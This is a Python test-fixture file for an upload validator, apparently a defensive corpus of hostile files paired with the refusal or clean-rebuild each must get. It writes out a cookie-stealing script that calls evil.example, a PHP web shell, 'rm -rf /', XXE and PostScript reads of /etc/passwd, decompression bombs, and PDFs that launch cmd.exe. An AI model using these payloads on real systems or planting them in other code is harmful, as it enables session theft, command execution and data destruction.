"""Hostile files, made when the tests run: name, bytes, and what must become of each.

`becomes` is the code of the refusal, or MADE_ANEW: taken, but nothing of what was hostile is left in what is served.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Dictionary, String

from tests.registry.uploads import pdfs
from tests.registry.uploads.test_files import picture, with_gps, written

MADE_ANEW = "made anew"
# Split, so that no scanner of this repository stumbles over the test.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"


@dataclass(frozen=True, slots=True)
class Hostile:
    what: str
    name: str
    make: Callable[[], bytes]
    becomes: str
    gone: tuple[bytes, ...] = ()


def zipped(content: bytes = EICAR, name: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is as large as this, and has almost nothing in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(4096))) + chunk(b"IEND", b"")
    )


def gif_and_script() -> bytes:
    return b"GIF89a/*" + bytes(16) + b"*/=1;alert(document.cookie);//;"


def jpeg() -> bytes:
    return written(picture((400, 300)))


def png() -> bytes:
    return written(picture((400, 300)), "PNG")


def heic() -> bytes:
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200)


REFUSED: tuple[Hostile, ...] = (
    Hostile("nothing", "letter.pdf", lambda: b"", "empty"),
    Hostile("one byte", "letter.pdf", lambda: b"%", "wrong_type"),
    Hostile("a page of HTML", "page.html", lambda: HTML, "wrong_type"),
    Hostile("HTML named as a PDF", "page.pdf", lambda: HTML, "wrong_type"),
    Hostile("HTML named as a JPEG", "page.jpg", lambda: HTML, "wrong_type"),
    Hostile("SVG with a script", "logo.svg", lambda: SVG, "wrong_type"),
    Hostile("SVG named as a PNG", "logo.png", lambda: SVG, "wrong_type"),
    Hostile("XML that names a file", "x.xml", lambda: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "wrong_type"),
    Hostile("GIF and script in one", "photo.gif", gif_and_script, "wrong_type"),
    Hostile("GIF and script named as a PNG", "photo.png", gif_and_script, "wrong_type"),
    Hostile("a program for Windows", "setup.exe", lambda: b"MZ\x90\x00" + bytes(500), "wrong_type"),
    Hostile("a program named as a PDF", "invoice.pdf.exe", lambda: b"MZ\x90\x00" + bytes(500), "wrong_type"),
    Hostile("a program for Linux", "invoice", lambda: b"\x7fELF" + bytes(500), "wrong_type"),
    Hostile("a script of the shell", "run.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "wrong_type"),
    Hostile("a script of PHP named as a JPEG", "shell.php.jpg", lambda: b"<?php system($_GET['c']); ?>", "wrong_type"),
    Hostile("EICAR plain", "eicar.com", lambda: EICAR, "wrong_type"),
    Hostile("EICAR named as a PDF", "eicar.pdf", lambda: EICAR, "wrong_type"),
    Hostile("EICAR in a zip", "papers.zip", zipped, "wrong_type"),
    Hostile("a document of Word", "contract.docx", zipped, "wrong_type"),
    Hostile("an old document of Word with macros", "contract.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500), "wrong_type"),
    Hostile("a zip bomb", "papers.zip", lambda: zipped(bytes(50_000_000)), "wrong_type"),
    Hostile("a gzip bomb named as a PDF", "papers.pdf", lambda: gzip.compress(bytes(10_000_000)), "wrong_type"),
    Hostile("HEIC", "IMG_0001.HEIC", heic, "wrong_type"),
    Hostile("TIFF", "scan.tiff", lambda: written(picture(), "TIFF"), "wrong_type"),
    Hostile("PostScript", "page.ps", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "wrong_type"),
    Hostile("a PDF that begins later", "letter.pdf", lambda: HTML + pdfs.a_pdf(), "wrong_type"),
    Hostile("a zip with a PDF after it", "letter.pdf", lambda: zipped() + pdfs.a_pdf(), "wrong_type"),
    Hostile("a PDF named as a JPEG", "photo.jpg", pdfs.a_pdf, "named_otherwise"),
    Hostile("a JPEG named as a PDF", "letter.pdf", jpeg, "named_otherwise"),
    Hostile("a PDF named as a page", "letter.html", pdfs.a_pdf, "named_otherwise"),
    Hostile("a JPEG named as a program", "photo.exe", jpeg, "named_otherwise"),
    Hostile("a picture of a hundred billion pixels", "photo.png", lambda: png_of(400_000, 250_000), "too_much"),
    Hostile("a picture of a hundred million pixels", "photo.png", lambda: png_of(10_000, 10_000), "too_much"),
    Hostile("a JPEG cut off", "photo.jpg", lambda: jpeg()[:900], "damaged"),
    Hostile("the first bytes of a JPEG and HTML", "photo.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "damaged"),
    Hostile("the first bytes of a PNG and HTML", "photo.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML, "damaged"),
    Hostile("the first bytes of a PDF and HTML", "letter.pdf", lambda: b"%PDF-1.7\n" + HTML, "damaged"),
    Hostile("a PDF cut off", "letter.pdf", lambda: pdfs.a_pdf()[:200], "damaged"),
    Hostile("a PDF with a password", "letter.pdf", lambda: pdfs.with_password("secret"), "password"),
    Hostile("a PDF whose pages go round in a circle", "letter.pdf", pdfs.with_pages_in_a_circle, "damaged"),
    Hostile("a PDF without a page", "letter.pdf", lambda: pdfs.a_pdf(pages=0), "no_page"),
    Hostile("a PDF of too many pages", "letter.pdf", lambda: pdfs.a_pdf(pages=301), "too_much"),
    Hostile("a PDF with a stream of 300 MB", "letter.pdf", lambda: pdfs.with_stream_of(300), "too_much"),
    Hostile("a PDF with a stream of 300 MB, packed twice", "letter.pdf", lambda: pdfs.with_packed_twice(300), "too_much"),
    Hostile("a PDF whose streams lie in each other", "letter.pdf", lambda: pdfs.with_streams_in_each_other(2000, 1_000_000), "too_much"),
    Hostile("a PDF with 300 MB of objects", "letter.pdf", lambda: pdfs.with_object_stream_of(300), "too_much"),
)  # fmt: skip

SCRIPT = b"owned"
NEUTRALISED: tuple[Hostile, ...] = (
    Hostile("a PDF that runs a script when opened", "a.pdf", lambda: pdfs.with_open_action("/JavaScript", **pdfs.SCRIPT), MADE_ANEW, (b"JavaScript", SCRIPT)),
    Hostile("a PDF whose script is in a stream", "a.pdf", pdfs.with_script_in_a_stream, MADE_ANEW, (b"JavaScript", SCRIPT)),
    Hostile("a PDF with a script of the document", "a.pdf", pdfs.with_script_of_document, MADE_ANEW, (b"JavaScript", SCRIPT)),
    Hostile("a PDF with a script of a page", "a.pdf", pdfs.with_actions_of_page, MADE_ANEW, (b"JavaScript", SCRIPT)),
    Hostile("a PDF with escaped names", "a.pdf", pdfs.with_escaped_names, MADE_ANEW, (b"JavaScript", b"vaScript", b"alert")),
    Hostile("a PDF with a field that calculates", "a.pdf", pdfs.with_field_that_calculates, MADE_ANEW, (b"JavaScript", SCRIPT)),
    Hostile("a PDF that starts a program", "a.pdf", lambda: pdfs.with_open_action("/Launch", F=String("cmd.exe")), MADE_ANEW, (b"Launch", b"cmd.exe")),
    Hostile("a PDF that sends a form", "a.pdf", lambda: pdfs.with_open_action("/SubmitForm", F=String("https://evil.example")), MADE_ANEW, (b"SubmitForm", b"evil.example")),
    Hostile("a PDF that opens another", "a.pdf", lambda: pdfs.with_open_action("/GoToR", F=String("//evil.example/x")), MADE_ANEW, (b"GoToR", b"evil.example")),
    Hostile("a PDF with a link", "a.pdf", lambda: pdfs.with_annotation("/Link", A=pdfs.action("/URI", URI=String("https://evil.example"))), MADE_ANEW, (b"evil.example",)),
    Hostile("a PDF with a chain of actions", "a.pdf", pdfs.with_chain_of_actions, MADE_ANEW, (b"Launch", b"cmd.exe")),
    Hostile("a PDF with a film", "a.pdf", lambda: pdfs.with_annotation("/RichMedia", RichMediaContent=Dictionary()), MADE_ANEW, (b"RichMedia",)),
    Hostile("a PDF with an attachment on the page", "a.pdf", lambda: pdfs.with_annotation("/FileAttachment", FS=String("x.exe")), MADE_ANEW, (b"FileAttachment", b"x.exe")),
    Hostile("a PDF with a program attached", "a.pdf", pdfs.with_attachment, MADE_ANEW, (b"EmbeddedFile", b"a program")),
    Hostile("a PDF with a form of XFA", "a.pdf", pdfs.with_xfa, MADE_ANEW, (b"XFA", SCRIPT)),
    Hostile("a PDF with EICAR attached", "a.pdf", lambda: pdfs.with_attachment(EICAR), MADE_ANEW, (EICAR, b"EICAR")),
    Hostile("a PDF whose page is at an address", "a.pdf", pdfs.with_content_elsewhere, MADE_ANEW, (b"evil.example", b"/FFilter", b"/FDecodeParms")),
    Hostile("a PDF whose page is in another file", "a.pdf", pdfs.with_content_in_a_file, MADE_ANEW, (b"evil.example",)),
    Hostile("a PDF with a page of another", "a.pdf", pdfs.with_page_of_another, MADE_ANEW, (b"evil.example", b"/Ref")),
    Hostile("a PDF with a picture that is elsewhere", "a.pdf", pdfs.with_picture_elsewhere, MADE_ANEW, (b"evil.example", b"/OPI")),
    Hostile("a PDF with what a spider collected", "a.pdf", pdfs.with_spider, MADE_ANEW, (b"evil.example", b"SpiderInfo")),
    Hostile("a PDF with an address for a file", "a.pdf", pdfs.with_address_for_a_file, MADE_ANEW, (b"evil.example",)),
    Hostile("a PDF that only its owner may change", "a.pdf", lambda: pdfs.with_password(""), MADE_ANEW, (b"Encrypt",)),
    Hostile("a PDF and a zip in one", "a.pdf", lambda: pdfs.a_pdf() + zipped(), MADE_ANEW, (b"PK\x03\x04", b"word/document.xml")),
    Hostile("a PDF with HTML after its end", "a.pdf", lambda: pdfs.a_pdf() + HTML, MADE_ANEW, (b"<script>",)),
    Hostile("a JPEG and HTML in one", "a.jpg", lambda: jpeg() + HTML, MADE_ANEW, (b"<script>",)),
    Hostile("a JPEG with a script in its comment", "a.jpg", lambda: written(picture(), comment=HTML), MADE_ANEW, (b"<script>",)),
    Hostile("a JPEG and a zip in one", "a.jpeg", lambda: jpeg() + zipped(), MADE_ANEW, (b"PK\x03\x04",)),
    Hostile("a JPEG that says where it was taken", "a.jpg", with_gps, MADE_ANEW, (b"Exif", b"Canary Telephone")),
    Hostile("a PNG and a script of PHP in one", "a.png", lambda: png() + b"<?php system('id'); ?>", MADE_ANEW, (b"<?php",)),
    Hostile("a JPEG named as a PNG", "a.png", jpeg, MADE_ANEW),
)  # fmt: skip
CORPUS = (*REFUSED, *NEUTRALISED)
